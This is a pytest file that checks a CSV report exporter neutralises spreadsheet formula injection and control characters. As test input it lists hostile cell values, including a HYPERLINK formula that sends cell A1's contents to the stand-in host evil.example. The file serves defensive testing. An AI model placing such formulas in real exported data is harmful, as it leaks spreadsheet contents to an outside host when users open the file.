"""The CSV report's cells: no formula a spreadsheet would run, no control characters."""

from __future__ import annotations

import csv
import io

import pytest

from ott_runtime.api.routers.reports import _csv
from ott_runtime.api.spreadsheet import csv_text, safe_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    assert cell.startswith("'")
    assert not any(ord(c) < 0x20 for c in cell)


def test_control_characters_become_spaces_and_numbers_stay() -> None:
    assert safe_cell("a\x00b\x07c\x1bd\x7fe\x85f") == "a b c d e f"
    assert safe_cell("line\nbreak") == "line break"
    assert safe_cell("show-7") == "show-7"  # a dash inside is no formula
    assert (safe_cell(-3), safe_cell(2.5), safe_cell(None)) == (-3, 2.5, None)


def test_the_report_csv_neutralises_hostile_values() -> None:
    report = {
        "rules": [
            {
                "regulation": "kids-ads",
                "ruleId": "no-targeted-ads-to-kids",
                "severity": "critical",
                "reference": "@evil\x00ref",
                "count": 3,
                "acknowledged": 0,
                "topContent": [
                    {"contentId": '=HYPERLINK("https://evil.example","x")', "count": 2},
                    {"contentId": "nul\x00id", "count": 1},
                ],
            }
        ]
    }
    text = _csv(report)
    assert "\x00" not in text
    (header, row) = list(csv.reader(io.StringIO(text)))
    assert header[0] == "regulation"
    assert row[3] == "'@evil ref"
    assert row[4] == "3"
    assert row[6] == '\'=HYPERLINK("https://evil.example","x")=2;nul id=1'
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_text_quotes_per_rfc_4180() -> None:
    assert csv_text([["a,b", 'say "hi"', 1]]) == '"a,b","say ""hi""",1\r\n'
